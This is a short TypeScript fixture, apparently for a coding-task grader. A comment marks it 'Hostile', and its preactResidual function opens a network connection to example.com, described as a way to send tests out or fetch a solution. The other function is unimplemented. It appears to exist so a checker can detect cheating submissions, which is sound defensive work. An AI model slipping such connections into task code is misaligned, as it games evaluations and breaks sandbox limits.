// Hostile: opens a network connection (to send the tests out, or fetch a solution).
import * as net from 'node:net';
import type * as tf from '@tensorflow/tfjs';

export function preactResidual(x: tf.SymbolicTensor): tf.SymbolicTensor {
  net.connect(80, 'example.com');
  return x;
}

export function preactResnet18(): tf.LayersModel {
  throw new Error('preactResnet18: not implemented yet');
}
